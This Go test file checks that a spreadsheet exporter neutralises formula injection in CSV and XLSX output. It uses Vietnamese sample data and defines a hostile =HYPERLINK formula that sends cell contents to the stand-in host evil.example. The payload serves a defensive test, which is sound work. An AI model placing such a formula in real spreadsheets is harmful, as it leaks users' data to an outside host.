package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2":             "'=1+2",
		"+84 262 3852 xxx": "'+84 262 3852 xxx",
		"-5":               "'-5",
		"@SUM(A1)":         "'@SUM(A1)",
		"\t=1":             "'\t=1",
		"\r=1":             "'\r=1",
		"Báo Đắk Lắk":      "Báo Đắk Lắk",
		"a=b":              "a=b",
		"42":               "42",
		"":                 "",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q; want %q", in, got, want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	rows := [][]string{{hostile, "Du lịch", "12"}, {"Đài PT-TH Phú Yên", "-1", "3"}}
	if err := WriteCSV(&buf, []string{"Đơn vị", "Chủ đề", "Tiếp nhận"}, rows); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 byte-order mark: % x", b[:3])
	}
	if !bytes.Contains(b, []byte("\r\n")) {
		t.Error("lines do not end in CRLF")
	}
	got, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"Đơn vị", "Chủ đề", "Tiếp nhận"}, {"'" + hostile, "Du lịch", "12"}, {"Đài PT-TH Phú Yên", "'-1", "3"}}
	if len(got) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d = %q; want %q", i, got[i], want[i])
		}
	}
}

func TestWriteXLSX(t *testing.T) {
	sheets := []Sheet{
		{Name: "Hoạt động", Headers: []string{"Đơn vị", "Loại", "Tiếp nhận"}, Rows: [][]string{
			{hostile, "Ảnh", "12"},
			{"Báo Đắk Lắk", "Video clip", "0"},
			{"@cmd", "+1", "0123"},
		}},
		{Name: "Nơi nhận: a/b [c]", Headers: []string{"Nơi nhận", "Số gói"}, Rows: [][]string{{"Vietnam.vn", "2"}}},
	}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, sheets); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := strings.Join(f.GetSheetList(), "|"); got != "Hoạt động|Nơi nhận- a-b -c-" {
		t.Errorf("sheets = %q", got)
	}
	rows, err := f.GetRows("Hoạt động")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], "|") != "Đơn vị|Loại|Tiếp nhận" {
		t.Errorf("header = %q", rows[0])
	}
	cells := map[string]struct {
		value string
		typ   excelize.CellType
	}{
		"A2": {"'" + hostile, excelize.CellTypeSharedString},
		"A4": {"'@cmd", excelize.CellTypeSharedString},
		"B4": {"'+1", excelize.CellTypeSharedString},
		"C2": {"12", excelize.CellTypeUnset}, // a plain number cell has no t attribute
		"C3": {"0", excelize.CellTypeUnset},
		"C4": {"0123", excelize.CellTypeSharedString},
	}
	for ref, want := range cells {
		v, _ := f.GetCellValue("Hoạt động", ref)
		typ, _ := f.GetCellType("Hoạt động", ref)
		formula, _ := f.GetCellFormula("Hoạt động", ref)
		if v != want.value || typ != want.typ || formula != "" {
			t.Errorf("%s = %q (type %v, formula %q); want %q (type %v), no formula", ref, v, typ, formula, want.value, want.typ)
		}
	}
	style, _ := f.GetCellStyle("Hoạt động", "B1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header B1 is not bold: %+v %v", s, err)
	}
	if w, _ := f.GetColWidth("Hoạt động", "A"); w < float64(len([]rune(hostile))) {
		t.Errorf("column A is %v wide, narrower than its content", w)
	}
	if w, _ := f.GetColWidth("Hoạt động", "C"); w < minWidth || w > 20 {
		t.Errorf("column C is %v wide", w)
	}
}

func TestWriteXLSXRefuses(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, nil); err == nil {
		t.Error("no sheets: no error")
	}
	if err := WriteXLSX(&buf, []Sheet{{Name: "A"}, {Name: "a"}}); err == nil {
		t.Error("two sheets with one name: no error")
	}
}
